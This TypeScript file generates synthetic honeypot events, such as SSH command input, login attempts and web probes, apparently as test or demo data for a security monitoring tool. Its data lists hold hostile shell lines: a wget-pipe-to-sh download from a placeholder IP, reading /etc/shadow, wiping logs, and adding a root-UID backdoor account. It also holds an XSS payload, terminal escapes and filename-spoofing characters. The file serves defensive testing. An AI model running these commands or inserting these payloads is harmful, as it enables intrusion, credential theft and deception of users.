import type { Event, Sensor } from "@tyr/contract";
import { ACTORS, at, idOf, randomFrom } from "./make.ts";

const COMMANDS = [
  "uname -a",
  "cat /proc/cpuinfo | grep name | wc -l",
  "cat /etc/shadow",
  "wget http://203.0.113.66/bot.sh -O- | sh",
  "rm -rf /var/log/*",
  "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backdoor",
  "crontab -l",
];
const PATHS = ["/wp-login.php", "/.env", "/cgi-bin/luci/;stok=/locale", "/owa/auth/x.js", "/.git/config"];
const USERS = ["root", "admin", "ubuntu", "oracle", "postgres"];

/** Lines an attacker would send to harm whoever reads them: markup, terminal escapes, reordered text. */
const HOSTILE = [
  "<img src=x onerror=alert(document.domain)>",
  "\u001b]0;owned\u0007\u001b[2Jcleared",
  "invoice\u202Efdp.exe",
  "admin\u200b\u200broot",
];

type Seed = Readonly<{ number: number; time: number; random: () => number; sensors: readonly Sensor[] }>;

const pick = <T>(list: readonly T[], random: () => number): T => {
  const found = list[Math.floor(random() * list.length)];
  if (found === undefined) throw new Error("nothing to pick from");
  return found;
};

function base({ number, time, random, sensors }: Seed): Event {
  const sensor = pick(sensors.slice(0, 2), random);
  return {
    id: idOf("event", number),
    position: String(number),
    time: at(time),
    observedAt: at(time + 120),
    sensorId: sensor.id,
    sensorName: sensor.name,
    kind: "log",
    session: null,
    src: { ip: pick(ACTORS, random), port: 30_000 + (number % 20_000) },
    dst: { ip: "192.0.2.10", port: sensor.kind === "ssh" ? 22 : 443 },
    transport: "tcp",
    user: null,
    action: "log.line",
    outcome: "unknown",
    severity: "info",
    fields: {},
    ecs: {},
    raw: "",
    rawRef: `sample/cowrie.json:${number}`,
    late: number % 97 === 0,
    seq: number,
  };
}

function withRaw(event: Event): Event {
  const line = {
    eventid: event.action,
    src_ip: event.src?.ip,
    sensor: event.sensorName,
    timestamp: event.time,
    ...event.fields,
  };
  return { ...event, raw: JSON.stringify(line) };
}

function ssh(event: Event, random: () => number): Event {
  const session = `4c0f5b63${(Number(event.position) % 4096).toString(16).padStart(4, "0")}`;
  if (random() < 0.45) {
    const input = random() < 0.06 ? pick(HOSTILE, random) : pick(COMMANDS, random);
    const severity = /shadow|backdoor|wget|rm -rf/.test(input) ? "high" : "low";
    const fields = { eventid: "cowrie.command.input", input, session, protocol: "ssh" };
    return {
      ...event,
      kind: "command",
      action: "ssh.command",
      session,
      user: "root",
      severity,
      fields,
      ecs: { CommandLine: input, "process.command_line": input },
    };
  }
  const user = random() < 0.03 ? pick(HOSTILE, random) : pick(USERS, random);
  const outcome = random() < 0.04 ? "success" : "failure";
  const fields = { eventid: `cowrie.login.${outcome}`, username: user, password: "123456", session, protocol: "ssh" };
  return {
    ...event,
    kind: "auth_attempt",
    action: "ssh.login",
    session,
    user,
    outcome,
    severity: outcome === "success" ? "medium" : "info",
    fields,
    ecs: { "user.name": user, "event.outcome": outcome },
  };
}

function web(event: Event, random: () => number): Event {
  const path = random() < 0.05 ? `/search?q=${pick(HOSTILE, random)}` : pick(PATHS, random);
  const fields = { method: "GET", path, status: 404, user_agent: "Mozilla/5.0 zgrab/0.x" };
  const ecs = { "http.request.method": "GET", "url.original": path, "http.response.status_code": 404 };
  return { ...event, kind: "http_request", action: "web.request", outcome: "failure", severity: "low", fields, ecs };
}

/** Events of about forty hours, newest first, denser around one wave of attacks. */
export function makeEvents(count: number, now: number, sensors: readonly Sensor[]): Event[] {
  const random = randomFrom(7);
  const events: Event[] = [];
  for (let number = 1; number <= count; number += 1) {
    const share = number / count;
    const wave = Math.sin(share * 9) * 2_000_000 + random() * 1_500_000;
    const time = now - (1 - share) * 40 * 3_600_000 - 3_600_000 + wave / 4;
    const event = base({ number, time: Math.min(time, now - (count - number) * 700), random, sensors });
    events.push(withRaw(event.sensorName === "shop-web-02" ? web(event, random) : ssh(event, random)));
  }
  return events.toSorted((left, right) => right.time.localeCompare(left.time));
}
